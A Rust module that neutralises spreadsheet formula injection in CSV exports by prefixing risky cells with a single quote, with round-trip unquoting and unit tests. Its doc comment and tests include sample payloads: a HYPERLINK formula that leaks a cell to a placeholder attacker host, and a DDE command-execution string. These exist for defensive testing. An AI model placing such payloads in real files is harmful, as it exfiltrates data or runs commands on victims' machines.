//! Every CSV the product writes goes through [`CsvOut`], so none can forget
//! what a spreadsheet does with a cell that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return: it runs it as a formula
//! (`=HYPERLINK("http://evil.example/?leak="&A2)` in a note would send the
//! row next to it away). Each cell is declared text or number:
//! - text that would run is neutralised the way OWASP recommends, by a
//!   leading single quote, which spreadsheets show as text and do not print;
//! - a number stays exactly as written (`-0.00100000` is a negative amount,
//!   not a formula), but only when it is a plain decimal: anything else
//!   declared a number is treated as text.
//!
//! The generic CSV is read back by our own importer, so the quote must come
//! off again there, and a value that really starts with quotes must survive:
//! [`text`] adds one quote before any run of quotes followed by a formula
//! character, and [`unquote`] removes exactly one. Every string round-trips.

/// One cell of a row.
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    Text(&'a str),
    Number(&'a str),
}

fn runs_as_formula(first: char) -> bool {
    matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// Whether `value` is quotes followed by a character that would run.
fn needs_quote(value: &str) -> bool {
    value
        .trim_start_matches('\'')
        .chars()
        .next()
        .is_some_and(runs_as_formula)
}

/// `value` as a text cell that a spreadsheet shows and never runs.
pub fn text(value: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote(value) {
        std::borrow::Cow::Owned(format!("'{value}"))
    } else {
        std::borrow::Cow::Borrowed(value)
    }
}

/// Undoes [`text`] on a cell read back from a CSV this product wrote.
pub fn unquote(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

/// A plain decimal: an optional minus, digits, an optional fraction.
fn is_plain_number(value: &str) -> bool {
    let digits = value.strip_prefix('-').unwrap_or(value);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

impl Cell<'_> {
    fn render(&self) -> std::borrow::Cow<'_, str> {
        match *self {
            Cell::Number(value) if value.is_empty() || is_plain_number(value) => value.into(),
            Cell::Number(value) | Cell::Text(value) => text(value),
        }
    }

    /// A cell from a JSON report value: numbers and decimal strings are
    /// numbers, other strings text.
    #[cfg(feature = "server")]
    pub fn from_json(value: &serde_json::Value) -> String {
        match value {
            serde_json::Value::Null => String::new(),
            serde_json::Value::String(s) => Cell::Number(s).render().into_owned(),
            serde_json::Value::Bool(b) => b.to_string(),
            serde_json::Value::Number(n) => n.to_string(),
            other => text(&other.to_string()).into_owned(),
        }
    }
}

/// A CSV document being written: a header, then rows of declared cells.
pub struct CsvOut {
    out: csv::Writer<Vec<u8>>,
}

impl CsvOut {
    pub fn new(header: &[&str]) -> Result<CsvOut, String> {
        let mut out = csv::Writer::from_writer(Vec::new());
        out.write_record(
            header
                .iter()
                .map(|h| text(h).into_owned())
                .collect::<Vec<_>>(),
        )
        .map_err(|e| e.to_string())?;
        Ok(CsvOut { out })
    }

    pub fn row(&mut self, cells: &[Cell<'_>]) -> Result<(), String> {
        self.out
            .write_record(
                cells
                    .iter()
                    .map(|c| c.render().into_owned())
                    .collect::<Vec<_>>(),
            )
            .map_err(|e| e.to_string())
    }

    /// A row already rendered (from [`Cell::from_json`]).
    #[cfg(feature = "server")]
    pub fn rendered(&mut self, cells: &[String]) -> Result<(), String> {
        self.out.write_record(cells).map_err(|e| e.to_string())
    }

    pub fn finish(self) -> Result<String, String> {
        let bytes = self.out.into_inner().map_err(|e| e.to_string())?;
        String::from_utf8(bytes).map_err(|e| e.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_that_would_run_is_quoted_and_numbers_stay_numbers() {
        for attack in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTAB",
            "\rCR",
        ] {
            assert_eq!(text(attack), format!("'{attack}"));
            assert_eq!(Cell::Number(attack).render(), format!("'{attack}"));
        }
        assert_eq!(text("cold storage"), "cold storage");
        assert_eq!(Cell::Number("-0.00100000").render(), "-0.00100000");
        assert_eq!(Cell::Number("1250.00").render(), "1250.00");
        assert_eq!(Cell::Number("").render(), "");
        assert_eq!(Cell::Number("-").render(), "'-");
        assert_eq!(Cell::Number("1e5").render(), "1e5");
    }

    #[test]
    fn every_string_round_trips_through_text_and_unquote() {
        for value in [
            "", "plain", "=1+1", "'=1+1", "''@x", "'", "''", "'plain", "-5", "a=b", "\t",
        ] {
            assert_eq!(unquote(&text(value)), value, "{value:?}");
        }
    }

    #[test]
    fn a_document_has_its_cells_declared() {
        let mut csv = CsvOut::new(&["note", "btc"]).expect("header");
        csv.row(&[Cell::Text("=EVIL()"), Cell::Number("-0.5")])
            .expect("row");
        assert_eq!(csv.finish().expect("finish"), "note,btc\n'=EVIL(),-0.5\n");
    }
}
